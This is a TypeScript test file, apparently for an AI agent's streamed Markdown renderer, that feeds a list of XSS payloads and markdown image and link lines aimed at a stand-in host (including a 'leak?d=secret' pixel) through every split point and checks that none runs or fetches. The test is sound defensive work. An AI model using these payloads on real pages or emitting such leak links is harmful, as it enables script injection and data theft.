import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { build, type Rolldown } from "vite";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser } from "@agent-engine/testing/browser.ts";

/** Text that would run, leak or break out if any part of the way were naive. */
const HOSTILE = [
  "<script>window.ran = true</script>",
  "<img src=x onerror='window.ran = true'>",
  "<svg/onload=window.ran=true>",
  "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
  "<a href='javascript:window.ran=true'>x</a>",
  "<br onclick=x><br/ ><b>bold?</b>",
  "[click](javascript:window.ran=true)",
  "[click](JaVaScRiPt:window.ran=true)",
  "[click](java\tscript:window.ran=true)",
  "[click](\u0001javascript:window.ran=true)",
  "[click](data:text/html,<script>window.ran=true</script>)",
  "[click](vbscript:x)",
  "[click](//evil.example/a)",
  "[click](/relative)",
  '[click](https://evil.example/"onmouseover="window.ran=true)',
  "[click](https://evil.example 'title' onclick=x)",
  "[x](https://a.example)[y](javascript:window.ran=true)",
  "![pixel](https://evil.example/leak?d=secret)",
  "![](https://evil.example/leak)",
  "![x](javascript:window.ran=true)",
  "[![x](https://evil.example/a.png)](javascript:window.ran=true)",
  "https://evil.example/?q=<script>window.ran=true</script>",
  "http://evil.example'onclick=window.ran=true",
  "```html\n<script>window.ran = true</script>\n```",
  '```"><img src=x onerror=window.ran=true>\ncode\n```',
  "    <script>window.ran = true</script>",
  "`<img src=x onerror=window.ran=true>`",
  "| a | b |\n|---|---|\n| <img src=x onerror=window.ran=true> | [x](javascript:window.ran=true) |",
  "> quote <script>window.ran=true</script>\n\n- [ ] <script>window.ran=true</script>\n- [x] done",
  "$<img src=x onerror=window.ran=true>$ and \\(x\\) and $$\ny\n$$",
  "# <script>window.ran=true</script>\n\n1. one\n2. [two](javascript:window.ran=true)",
  "<style>*{background:url(https://evil.example/css)}</style>",
  "[ref]: https://evil.example/leak\n\n[ref]",
  "<https://evil.example/auto> and <javascript:window.ran=true>",
  "&lt;script&gt;window.ran=true&lt;/script&gt; &#106;avascript:x",
  "[1](javascript:window.ran=true) and [2]",
  "***[a](https://a.example)*** ~~[b](javascript:x)~~ __[c](mailto:c@c.example)__",
  "\u202Egnp.exe [\u202E](https://a.example)",
];

declare global {
  interface Window {
    ran?: boolean;
    renderMarkdown(chunks: string[]): { html: string; problems: string[] };
  }
}

let browser: Browser;
let page: Page;
const asked: string[] = [];

beforeAll(async () => {
  const [built] = (await build({
    configFile: false,
    logLevel: "silent",
    root: fileURLToPath(new URL("..", import.meta.url)),
    build: { write: false, lib: { entry: "test/render-markdown.ts", formats: ["iife"], name: "x" } },
  })) as [Rolldown.RolldownOutput];
  browser = await launchBrowser();
  page = await browser.newPage();
  page.on("request", (request) => asked.push(request.url()));
  await page.goto("about:blank");
  await page.evaluate(built.output[0].code);
});

afterAll(() => browser.close());

const render = (inputs: string[][]) =>
  page.evaluate((all) => all.map((chunks) => window.renderMarkdown(chunks)), inputs);

describe("streamed Markdown", () => {
  it("runs nothing and asks nobody, wherever the text is cut", async () => {
    const splits = HOSTILE.flatMap((text) =>
      Array.from({ length: text.length + 1 }, (_, at) => [text.slice(0, at), text.slice(at)]),
    );
    expect(splits.length).toBeGreaterThan(1_000);
    const results = await render(splits);
    expect(results.flatMap(({ problems }) => problems)).toEqual([]);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
    expect(asked.filter((url) => url.includes("example"))).toEqual([]);
  });

  it("looks the same however it was cut", async () => {
    const word = fc.constantFrom(
      "a",
      "[1]",
      "**b**",
      "*c*",
      "`d`",
      "[e](https://e.example)",
      "![f](https://f.example)",
      "<",
      "https://g.example/h.",
      "\n",
      "\n\n",
      "- ",
      "1. ",
      "# ",
      "> ",
      "|",
      "```",
      "    ",
      "~~",
      "_",
      "$",
      "\\",
      "😀",
      "] (",
      "((",
    );
    const text = fc.array(word, { maxLength: 30 }).map((words) => words.join(" "));
    const cases = fc.sample(fc.tuple(text, fc.array(fc.nat(200), { maxLength: 6 })), { numRuns: 400, seed: 7 });
    const whole = await render(cases.map(([text]) => [text]));
    const cut = await render(
      cases.map(([text, points]) => {
        const at = [0, ...points.map((point) => point % (text.length + 1)).sort((a, b) => a - b), text.length];
        return at.slice(1).map((end, index) => text.slice(at[index], end));
      }),
    );
    expect(cut.flatMap(({ problems }) => problems)).toEqual([]);
    expect(cut.map(({ html }) => html)).toEqual(whole.map(({ html }) => html));
  });

  it("stays readable when it nests deeper than the parser does", async () => {
    const [result] = await render([[`${"> ".repeat(60)}deep\n\n${"- a\n".repeat(3)}${"  ".repeat(40)}- b\n\nafter`]]);
    expect(result?.problems).toEqual([]);
    expect(result?.html).toContain("after");
  });

  it.each([
    ["**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"],
    [
      "See [the page](https://a.example/x).",
      '<p>See <a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">the page</a>.</p>',
    ],
    ["Not [a link] here", "<p>Not [a link] here</p>"],
    ["A fact [2].", '<p>A fact <b class="mark">2</b>.</p>'],
    ["Two [1, 3]", '<p>Two <b class="mark">1</b><b class="mark">3</b></p>'],
    ["[bad](javascript:x)", "<p>bad</p>"],
    ["cut [off", "<p>cut [off</p>"],
    ["- [ ] a\n- [x] b", "<ul><li><span>☐ </span> a</li><li><span>☑ </span> b</li></ul>"],
    ["| a |\n|---|\n| b |", "<table><tr><th> a </th></tr><tr><td> b </td></tr></table>"],
  ])("renders %j", async (text, html) => {
    const [result] = await render([[text]]);
    expect(result?.html).toBe(html);
  });
});
